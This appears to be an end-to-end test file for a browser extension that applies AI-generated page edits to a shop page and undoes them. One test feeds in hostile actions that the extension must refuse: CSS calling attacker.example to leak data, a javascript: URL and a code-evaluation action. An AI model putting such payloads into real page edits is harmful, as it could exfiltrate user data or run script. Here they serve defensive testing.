// Page actions end to end: the stand-in for `codex app-server` answers with action blocks, the
// real host relays them, the panel applies them to the shop page through the page runtime, and
// the sidebar's Remove buttons (and the page's own close controls) take them back. Every
// removal is checked by serialising the page's DOM before and after.

import assert from "node:assert/strict";
import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { available, completed, contextOf, delta, Harness, png, send, TIMEOUT, turnEnded, turnStarted } from "./harness.mjs";

const harness = new Harness();
const skip = available ? false : "chromium is not installed";
let shopURL;

before(async () => {
  if (!available) return;
  await harness.start();
  shopURL = new URL("/shop.html", harness.pageURL).href;
  await harness.page.goto(shopURL);
}, { timeout: 180_000 });
after(async () => {
  await harness.stop();
});

const block = (...actions) => "Done.\n\n```json\n" + JSON.stringify({ actions }) + "\n```\n";

// A scenario whose Nth turn answers answers[N-1] (a text, or { text, extra } with stand-in
// actions sent before the turn completes).
function scenario(answers) {
  const requests = {};
  answers.forEach((answer, index) => {
    const turn = `turn-${index + 1}`;
    const { text, extra = [] } = typeof answer === "string" ? { text: answer } : answer;
    requests[`turn/start#${index + 1}`] = [turnStarted(turn), delta(text, turn), ...extra, completed(turn)];
  });
  harness.writeScenario(requests);
}

// Sends a prompt and waits until turn `index` has ended and its blocks have been applied.
async function turn(panel, index, text = "Change the page") {
  await send(panel, text);
  const view = panel.locator(".turn").nth(index);
  assert.equal(await turnEnded(panel, index), "done");
  const blocks = view.locator(".action-block");
  if ((await blocks.count()) > 0 && (await panel.locator("#auto-apply").isChecked())) {
    await view.locator(".action-block:not([data-state='done'])").waitFor({ state: "detached", timeout: TIMEOUT });
  }
  return view;
}

const entryStates = (view) => view.locator(".action-entry").evaluateAll((items) => items.map((item) => item.dataset.state));
const dom = () => harness.page.evaluate(() => document.documentElement.outerHTML);

async function freshShop() {
  await harness.page.goto(shopURL);
}

const hero = `data:image/png;base64,${png(6, 6, [20, 200, 90]).toString("base64")}`;

// Each type: the action, what it does to the page (run in the page, returning what the test
// compares), that value, and how many elements the sidebar reports.
const table = [
  {
    action: { type: "hide", target: { selector: ".ad" }, reason: "Ads are noise" },
    check: () => Array.from(document.querySelectorAll(".ad"), (ad) => getComputedStyle(ad).display),
    expected: ["none", "none"],
    count: 2,
  },
  {
    action: { type: "setText", target: { selector: "h1" }, value: "<b>Seed</b> shop" },
    check: () => [document.querySelector("h1").textContent, document.querySelector("h1 b")],
    expected: ["<b>Seed</b> shop", null],
    count: 1,
  },
  {
    action: { type: "setStyle", target: { selector: "#story p" }, property: "color", value: "rgb(200, 0, 0)" },
    check: () => Array.from(document.querySelectorAll("#story p"), (p) => getComputedStyle(p).color),
    expected: ["rgb(200, 0, 0)", "rgb(200, 0, 0)", "rgb(200, 0, 0)"],
    count: 3,
  },
  {
    action: { type: "insertCSS", css: ".product { outline: 3px solid rgb(0, 0, 255); }" },
    check: () => getComputedStyle(document.querySelector(".product")).outlineColor,
    expected: "rgb(0, 0, 255)",
    count: 1,
  },
  {
    action: { type: "setImagePresentation", selector: "main img", borderRadius: "0", includeWrappers: true },
    check: () => ["img.hero", "img.plain", "figure.rounded"].map((selector) => getComputedStyle(document.querySelector(selector)).borderTopLeftRadius),
    expected: ["0px", "0px", "0px"],
    count: 3,
  },
  {
    action: { type: "setImageSource", target: { selector: "img.hero" }, src: hero, alt: "A green square" },
    check: () => [document.querySelector("img.hero").src.slice(0, 22), document.querySelector("img.hero").alt],
    expected: ["data:image/png;base64,", "A green square"],
    count: 1,
  },
  {
    action: { type: "insertImageCopyButtons", selector: "main img" },
    check: () =>
      Array.from(document.querySelectorAll("vellora-ui[data-vellora-ui='image-copy']"), (host) => [
        host.previousElementSibling.tagName,
        host.shadowRoot.querySelector("button.copy").textContent,
      ]),
    expected: [["IMG", "Copy Image"], ["IMG", "Copy Image"]],
    count: 2,
  },
  {
    action: { type: "insertLinkCopyButtons", selector: "article a", label: "Copy address" },
    check: () => Array.from(document.querySelectorAll("vellora-ui[data-vellora-ui='link-copy']"), (host) => host.shadowRoot.querySelector("button.copy").textContent),
    expected: ["Copy address", "Copy address"],
    count: 2,
  },
  {
    action: { type: "highlightText", query: "pricing", selector: "article", color: "rgb(255, 243, 163)" },
    check: () => Array.from(document.querySelectorAll("mark"), (mark) => [mark.textContent, getComputedStyle(mark).backgroundColor]),
    expected: Array(4).fill(["pricing", "rgb(255, 243, 163)"]),
    count: 4,
  },
  {
    action: { type: "insertHeadingToc", selector: "article", maxDepth: 3 },
    check: () => {
      const root = document.querySelector("vellora-ui[data-vellora-ui='toc']").shadowRoot;
      return [root.querySelector("h2").textContent, Array.from(root.querySelectorAll("button.entry"), (entry) => entry.textContent)];
    },
    expected: ["Sections", ["Spring pricing", "Seeds", "Tools"]],
    count: 3,
  },
  {
    action: { type: "enableReadingMode", selector: "article", title: "Read calmly" },
    check: () => {
      const root = document.querySelector("vellora-ui[data-vellora-ui='reading']").shadowRoot;
      const overlay = root.querySelector(".overlay");
      return [getComputedStyle(overlay).position, root.querySelector("h2").textContent, root.querySelector(".content").textContent.includes("Our pricing changes")];
    },
    expected: ["fixed", "Read calmly", true],
    count: 1,
  },
  {
    action: { type: "sortList", containerSelector: ".products", itemSelector: ".products > .product", keySelector: ".price", keyType: "number", direction: "asc", label: "price" },
    check: () => Array.from(document.querySelectorAll(".product .name"), (name) => name.textContent),
    expected: ["Gloves", "Hoe", "Spade", "Rake"],
    count: 4,
  },
];

test("each action type changes the page as it says, and Remove gives the page back exactly", { skip, timeout: 300_000 }, async () => {
  await freshShop();
  scenario(table.map((row) => block(row.action)));
  const panel = await harness.openPanel();
  for (const [index, row] of table.entries()) {
    const label = row.action.type;
    const before = await dom();
    const view = await turn(panel, index);
    const entry = view.locator(".action-entry");
    assert.deepEqual(await entryStates(view), ["applied"], `${label}: ${await entry.textContent()}`);
    assert.deepEqual(await harness.page.evaluate(row.check), row.expected, label);
    assert.equal(await entry.locator(".action-type").textContent(), label);
    assert.equal(await entry.locator(".action-status").textContent(), `${row.count} element${row.count === 1 ? "" : "s"}`, label);
    if (row.action.reason) assert.equal(await entry.locator(".action-reason").textContent(), row.action.reason);
    await entry.getByRole("button", { name: /^Remove/ }).click();
    await entry.and(panel.locator("[data-state='removed']")).waitFor({ timeout: TIMEOUT });
    assert.equal(await dom(), before, `${label}: the page after Remove`);
  }
  assert.deepEqual(panel.errors ?? [], []);
  await panel.close();
});

// Actions that touch the same elements, so that the order of removal matters.
const overlapping = [
  { type: "hide", target: { selector: "#side-ad" } },
  { type: "setText", target: { selector: "h1" }, value: "First title" },
  { type: "setStyle", target: { selector: "h1, #story p" }, property: "color", value: "purple" },
  { type: "highlightText", query: "pricing", selector: "article" },
  { type: "setText", target: { selector: "h1" }, value: "Second title" },
  { type: "setStyle", target: { selector: "h1" }, property: "color", value: "green" },
  { type: "sortList", containerSelector: ".products", itemSelector: ".product", keySelector: ".price", keyType: "number" },
  { type: "sortList", containerSelector: ".products", itemSelector: ".product", keySelector: ".name", direction: "desc" },
  { type: "setImagePresentation", selector: "img", borderRadius: "4px" },
  { type: "highlightText", query: "spring", selector: "main" },
  { type: "setText", target: { selector: "#story h2" }, value: "Prices" },
];

test("removing in reverse, in another order, or all at once leaves the page as before", { skip, timeout: 300_000 }, async () => {
  await freshShop();
  scenario([block(...overlapping), block(...overlapping), block(...overlapping)]);
  const panel = await harness.openPanel();
  const before = await dom();

  // Remove all, which goes in reverse.
  let view = await turn(panel, 0);
  assert.deepEqual(await entryStates(view), Array(overlapping.length).fill("applied"));
  assert.equal(await harness.page.locator("h1").textContent(), "Second title");
  assert.deepEqual(await harness.page.locator(".product .name").allTextContents(), ["Spade", "Rake", "Hoe", "Gloves"]);
  await harness.screenshot(panel, "page-actions-list-light");
  await view.getByRole("button", { name: "Remove all" }).click();
  await view.locator(".action-entry[data-state='applied']").first().waitFor({ state: "detached", timeout: TIMEOUT });
  assert.equal(await dom(), before, "after Remove all");

  // One by one, first to last, and in a mixed order; checking that what stays still shows.
  for (const [index, order] of [
    [1, overlapping.map((_, i) => i)],
    [2, [4, 0, 7, 1, 9, 3, 6, 10, 2, 8, 5]],
  ]) {
    view = await turn(panel, index);
    for (const [step, at] of order.entries()) {
      const entry = view.locator(".action-entry").nth(at);
      await entry.getByRole("button", { name: /^Remove/ }).click();
      await entry.and(panel.locator("[data-state='removed']")).waitFor({ timeout: TIMEOUT });
      if (step === 0 && at === 4) assert.equal(await harness.page.locator("h1").textContent(), "First title", "the older text shows again");
    }
    assert.equal(await dom(), before, `after removing in the order ${order}`);
  }
  await panel.close();
});

test("refused actions are listed with their reason and change nothing", { skip, timeout: 300_000 }, async () => {
  await freshShop();
  const refused = [
    { type: "hide", target: {} },
    { type: "setText", target: { selector: "h1" } },
    { type: "setStyle", target: { selector: "h1" }, property: "background", value: "url(https://attacker.example/?leak)" },
    { type: "insertCSS", css: "@import 'https://attacker.example/x.css';" },
    { type: "setImagePresentation", selector: "img", maxCount: "all" },
    { type: "setImageSource", target: { selector: "img.hero" }, src: "javascript:alert(1)" },
    { type: "insertImageCopyButtons", selector: "img", maxCount: -1 },
    { type: "insertLinkCopyButtons" },
    { type: "highlightText", selector: "main" },
    { type: "insertHeadingToc", selector: "article", title: 7 },
    { type: "enableReadingMode", title: "x" },
    { type: "sortList", containerSelector: ".products", itemSelector: ".product", keySelector: ".price", keyType: "price" },
    { type: "hide", target: { selector: "div[" } },
    { type: "hide", target: { selector: ".nothing-like-this" } },
    { type: "setStyle", target: { selector: "h1" }, property: "color", value: "not-a-colour" },
    { type: "evaluate", code: "document.body.remove()" },
  ];
  scenario([block(...refused)]);
  const panel = await harness.openPanel();
  const before = await dom();
  const view = await turn(panel, 0);
  assert.deepEqual(await entryStates(view), Array(refused.length).fill("failed"));
  const statuses = await view.locator(".action-status").allTextContents();
  assert.match(statuses[2], /url\(/);
  assert.match(statuses[12], /The selector div\[ is not valid/);
  assert.match(statuses[13], /No element of the page matches \.nothing-like-this/);
  assert.match(statuses[14], /not-a-colour is not a valid value for color/);
  assert.match(statuses[15], /"evaluate" is not a page action/);
  for (const status of statuses) assert.match(status, /^Not applied: \S/);
  assert.equal(await view.getByRole("button", { name: /^Remove/ }).count(), 0);
  assert.equal(await dom(), before);
  assert.deepEqual(panel.errors ?? [], []);
  await panel.close();
});

test("a maxCount of 10,000 touches 500 elements", { skip, timeout: 300_000 }, async () => {
  await freshShop();
  await harness.page.evaluate(() => {
    const many = document.createElement("div");
    many.id = "many";
    for (let index = 0; index < 700; index++) {
      const link = document.createElement("a");
      link.href = `/item/${index}`;
      link.textContent = `item ${index}`;
      many.append(link);
    }
    document.body.append(many);
  });
  scenario([block({ type: "insertLinkCopyButtons", selector: "#many a", maxCount: 10_000 }, { type: "hide", target: { selector: "#many a" } })]);
  const panel = await harness.openPanel();
  const view = await turn(panel, 0);
  assert.deepEqual(await view.locator(".action-status").allTextContents(), ["500 elements", "500 elements"]);
  assert.equal(await harness.page.locator("vellora-ui[data-vellora-ui='link-copy']").count(), 500);
  assert.equal(await harness.page.evaluate(() => getComputedStyle(document.querySelectorAll("#many a")[499]).display), "none");
  assert.equal(await harness.page.evaluate(() => getComputedStyle(document.querySelectorAll("#many a")[500]).display), "inline");
  await panel.close();
});

test("latestGeneratedImage takes the turn's newest attachment, and fails without one", { skip, timeout: 300_000 }, async () => {
  await freshShop();
  const directory = join(harness.home, ".codex", "generated_images");
  mkdirSync(directory, { recursive: true });
  const saved = join(directory, "generated.png");
  writeFileSync(saved, png(8, 8, [240, 120, 0]));
  const replace = block({ type: "setImageSource", target: { selector: "img.hero" }, src: "latestGeneratedImage", alt: "Generated" });
  scenario([
    {
      text: replace,
      extra: [
        {
          notify: "item/completed",
          params: { threadId: "thread-1", turnId: "turn-1", item: { type: "imageGeneration", id: "ig_1", status: "completed", savedPath: saved } },
        },
      ],
    },
    replace,
  ]);
  const panel = await harness.openPanel();
  const before = await dom();
  let view = await turn(panel, 0, "Draw a picture and put it in");
  assert.deepEqual(await entryStates(view), ["applied"]);
  const attachment = await view.locator(".attachment img").getAttribute("src");
  assert.equal(await harness.page.locator("img.hero").getAttribute("src"), attachment);
  assert.equal(await harness.page.locator("img.hero").getAttribute("alt"), "Generated");
  await view.getByRole("button", { name: /^Remove/ }).click();
  await view.locator(".action-entry[data-state='removed']").waitFor({ timeout: TIMEOUT });
  assert.equal(await dom(), before);

  view = await turn(panel, 1, "Put it in again");
  assert.deepEqual(await entryStates(view), ["failed"]);
  assert.match(await view.locator(".action-status").textContent(), /generated no image/);
  assert.equal(await dom(), before);
  await panel.close();
});

test("a block in another language, or in a stopped answer, is only shown as code", { skip, timeout: 300_000 }, async () => {
  await freshShop();
  const actions = JSON.stringify({ actions: [{ type: "hide", target: { selector: ".ad" } }] });
  scenario(["```js\n" + actions + "\n```\n", "```\n" + actions + "\n```\n", "```json\n{\"actions\": [\n```\n"]);
  const panel = await harness.openPanel();
  const before = await dom();
  for (const index of [0, 1, 2]) {
    const view = await turn(panel, index);
    assert.equal(await view.locator(".page-actions").count(), 0);
    assert.equal(await view.locator("pre code").count(), 1);
  }
  assert.equal(await dom(), before);
  await panel.close();
});

test("with Auto-apply off a block waits for Apply, and the setting is kept", { skip, timeout: 300_000 }, async () => {
  await freshShop();
  scenario([block({ type: "hide", target: { selector: ".ad" } })]);
  let panel = await harness.openPanel();
  await panel.locator("#auto-apply").uncheck();
  const before = await dom();
  const view = await turn(panel, 0);
  assert.deepEqual(await entryStates(view), ["waiting"]);
  assert.equal(await dom(), before);
  await view.getByRole("button", { name: "Apply" }).click();
  await view.locator(".action-entry[data-state='applied']").waitFor({ timeout: TIMEOUT });
  assert.equal(await harness.page.locator("#top-ad").evaluate((ad) => getComputedStyle(ad).display), "none");
  assert.equal(await view.getByRole("button", { name: "Apply" }).count(), 0);
  await panel.close();
  panel = await harness.openPanel();
  assert.equal(await panel.locator("#auto-apply").isChecked(), false);
  await panel.locator("#auto-apply").check();
  await panel.close();
});

test("the page's own close controls remove their feature, and the sidebar follows", { skip, timeout: 300_000 }, async () => {
  await freshShop();
  scenario([
    block(
      { type: "insertImageCopyButtons", selector: "main img" },
      { type: "insertLinkCopyButtons", selector: "article a" },
      { type: "insertHeadingToc", selector: "article" },
      { type: "enableReadingMode", selector: "article" },
    ),
  ]);
  const panel = await harness.openPanel();
  const before = await dom();
  const view = await turn(panel, 0);
  assert.deepEqual(await entryStates(view), ["applied", "applied", "applied", "applied"]);
  await harness.page.bringToFront();
  await harness.screenshot(harness.page, "page-reading-mode-light");
  // Playwright's locators pierce open shadow roots.
  await harness.page.locator("vellora-ui[data-vellora-ui='reading']").getByRole("button", { name: "Close Reading mode" }).click();
  await harness.screenshot(harness.page, "page-toc-light");
  await harness.page.locator("vellora-ui[data-vellora-ui='toc']").getByRole("button", { name: "Close Sections" }).click();
  await harness.page.locator("vellora-ui[data-vellora-ui='image-copy']").first().getByRole("button", { name: "Remove the copy buttons" }).click();
  await harness.page.locator("vellora-ui[data-vellora-ui='link-copy']").last().getByRole("button", { name: "Remove the copy buttons" }).click();
  await view.locator(".action-entry[data-state='applied']").first().waitFor({ state: "detached", timeout: TIMEOUT });
  assert.deepEqual(await entryStates(view), Array(4).fill("removedOnPage"));
  assert.equal(await dom(), before);
  await panel.close();
});

test("a page navigated away from forgets its changes, and the sidebar says so", { skip, timeout: 300_000 }, async () => {
  await freshShop();
  scenario([block({ type: "hide", target: { selector: ".ad" } }, { type: "setText", target: { selector: "h1" }, value: "Changed" })]);
  const panel = await harness.openPanel();
  const view = await turn(panel, 0);
  assert.deepEqual(await entryStates(view), ["applied", "applied"]);
  await harness.page.goto(`${shopURL}?again`);
  await view.locator(".action-note").getByText("navigated away").waitFor({ timeout: TIMEOUT });
  assert.deepEqual(await entryStates(view), ["forgotten", "forgotten"]);
  assert.equal(await view.getByRole("button", { name: /^Remove/ }).count(), 0);
  assert.equal(await harness.page.locator("h1").textContent(), "Garden shop");
  await panel.close();
});

test("Pick element puts the clicked element into the next turn, and Escape cancels", { skip, timeout: 300_000 }, async () => {
  await freshShop();
  scenario(["Seen.", "Seen again."]);
  const panel = await harness.openPanel();
  const pick = panel.getByRole("button", { name: "Pick element" });

  // Escape in the page cancels without a chip.
  await pick.click();
  await panel.getByRole("button", { name: "Cancel pick" }).waitFor({ timeout: TIMEOUT });
  await harness.page.bringToFront();
  await harness.page.locator("vellora-ui[data-vellora-ui='picker']").waitFor({ state: "attached", timeout: TIMEOUT });
  await harness.page.keyboard.press("Escape");
  await pick.waitFor({ timeout: TIMEOUT });
  assert.equal(await panel.locator(".chips.picked .chip").count(), 0);

  // A click picks; the page's own handlers do not see it.
  await harness.page.evaluate(() => document.querySelector("img.hero").addEventListener("click", () => (window.__clicked = true)));
  await pick.click();
  await harness.page.locator("vellora-ui[data-vellora-ui='picker']").waitFor({ state: "attached", timeout: TIMEOUT });
  const box = await harness.page.locator("img.hero").boundingBox();
  await harness.page.mouse.move(box.x + 10, box.y + 10);
  await harness.page.mouse.click(box.x + 20, box.y + 20);
  await panel.locator(".chips.picked .chip").waitFor({ timeout: TIMEOUT });
  assert.equal(await harness.page.evaluate(() => window.__clicked), undefined);
  assert.match(await panel.locator(".chips.picked .chip").textContent(), /^Picked img: /);
  // The image's selector is long: its text is cut short inside the panel, and the chip's
  // remove button stays in sight.
  const layout = await panel.locator(".chips.picked .chip").evaluate((chip) => {
    const box = chip.getBoundingClientRect();
    const button = chip.querySelector(".chip-remove").getBoundingClientRect();
    return { buttonInChip: button.left >= box.left && button.right <= box.right + 0.5, chipInPanel: box.right <= document.documentElement.clientWidth };
  });
  assert.deepEqual(layout, { buttonInChip: true, chipInPanel: true });
  await harness.screenshot(panel, "picked-element-light");
  await panel.emulateMedia({ colorScheme: "dark" });
  await harness.screenshot(panel, "picked-element-dark");
  await panel.emulateMedia({ colorScheme: "light" });
  await turn(panel, 0, "Replace this picture");
  const [first] = harness.paramsOf("turn/start");
  const picked = contextOf(first).pickedElement;
  assert.deepEqual(Object.keys(picked).sort(), ["alt", "selector", "src", "tag", "text"]);
  assert.equal(picked.tag, "img");
  assert.equal(picked.alt, "hero");
  assert.equal(picked.src, new URL("/a.png", shopURL).href);
  assert.deepEqual(await harness.page.evaluate((selector) => Array.from(document.querySelectorAll(selector), (e) => e.className), picked.selector), ["hero"]);

  // Used once, then gone; a removed chip sends nothing.
  assert.equal(await panel.locator(".chips.picked .chip").count(), 0);
  await pick.click();
  await harness.page.locator("vellora-ui[data-vellora-ui='picker']").waitFor({ state: "attached", timeout: TIMEOUT });
  const heading = await harness.page.locator("#story h2").first().boundingBox();
  await harness.page.mouse.click(heading.x + 5, heading.y + 5);
  await panel.locator(".chips.picked .chip").waitFor({ timeout: TIMEOUT });
  await panel.getByRole("button", { name: "Remove the picked element" }).click();
  await turn(panel, 1, "And now?");
  assert.equal(contextOf(harness.paramsOf("turn/start")[1]).pickedElement, undefined);
  await panel.close();
});

test("hide the ads and sort the products by price, then take it back", { skip, timeout: 300_000 }, async () => {
  for (const colorScheme of ["light", "dark"]) {
    await freshShop();
    await harness.page.emulateMedia({ colorScheme });
    scenario([
      "I hid the two ads and sorted the products by price, cheapest first.\n\n" +
        "```json\n" +
        JSON.stringify({
          actions: [
            { type: "hide", target: { selector: ".ad" }, reason: "Hide the ads" },
            { type: "sortList", containerSelector: ".products", itemSelector: ".products > .product", keySelector: ".price", keyType: "number", direction: "asc", label: "price", reason: "Cheapest first" },
            { type: "insertHeadingToc", selector: "article", title: "Sections", maxDepth: 3 },
          ],
        }) +
        "\n```\n",
    ]);
    const panel = await harness.openPanel({ colorScheme });
    const before = await dom();
    await turn(panel, 0, "hide the ads and sort the products by price");
    const sent = harness.paramsOf("turn/start")[0].input[0].text;
    assert.match(sent, /^User prompt:\nhide the ads and sort the products by price\n/);
    assert.equal(contextOf(harness.paramsOf("turn/start")[0]).url, shopURL);
    assert.deepEqual(await harness.page.locator(".product .price").allTextContents(), ["$9", "$24.50", "$310", "$1,299.00"]);
    assert.equal(await harness.page.locator("#top-ad").isVisible(), false);
    await sideBySide(panel, `page-actions-${colorScheme}`);
    await harness.page.locator("vellora-ui[data-vellora-ui='toc']").getByRole("button", { name: "Close Sections" }).click();
    await panel.getByRole("button", { name: "Remove all" }).click();
    await panel.locator(".action-entry[data-state='applied']").first().waitFor({ state: "detached", timeout: TIMEOUT });
    assert.equal(await dom(), before);
    await panel.close();
    await harness.page.emulateMedia({ colorScheme: "light" });
  }
});

test("reading mode and the table of contents in the dark", { skip, timeout: 300_000 }, async () => {
  await freshShop();
  await harness.page.emulateMedia({ colorScheme: "dark" });
  scenario([block({ type: "insertHeadingToc", selector: "article" }), block({ type: "enableReadingMode", selector: "article" })]);
  const panel = await harness.openPanel({ colorScheme: "dark" });
  await turn(panel, 0);
  await harness.screenshot(harness.page, "page-toc-dark");
  await turn(panel, 1);
  await harness.screenshot(harness.page, "page-reading-mode-dark");
  // A removed entry stays listed, without its button.
  const entries = panel.locator(".action-entry");
  for (let index = 0; index < (await entries.count()); index++) {
    await entries.nth(index).getByRole("button", { name: /^Remove/ }).click();
  }
  await panel.locator(".action-entry[data-state='applied']").first().waitFor({ state: "detached", timeout: TIMEOUT });
  await harness.page.emulateMedia({ colorScheme: "light" });
  await panel.close();
});

// The page and the panel in one picture, the panel on the right as Chrome shows it.
async function sideBySide(panel, name) {
  const directory = process.env.VELLORA_SCREENSHOTS;
  if (!directory) return;
  const page = await harness.page.screenshot();
  const side = await panel.screenshot();
  const board = await harness.context.newPage();
  await board.setViewportSize({ width: 1120, height: 640 });
  await board.setContent(
    `<body style="margin:0;display:flex;background:#888"><img src="data:image/png;base64,${page.toString("base64")}" style="width:800px;height:600px;align-self:flex-start"><img src="data:image/png;base64,${side.toString("base64")}" style="width:320px;height:640px"></body>`,
  );
  mkdirSync(directory, { recursive: true });
  await board.screenshot({ path: join(directory, `${name}.png`) });
  await board.close();
}
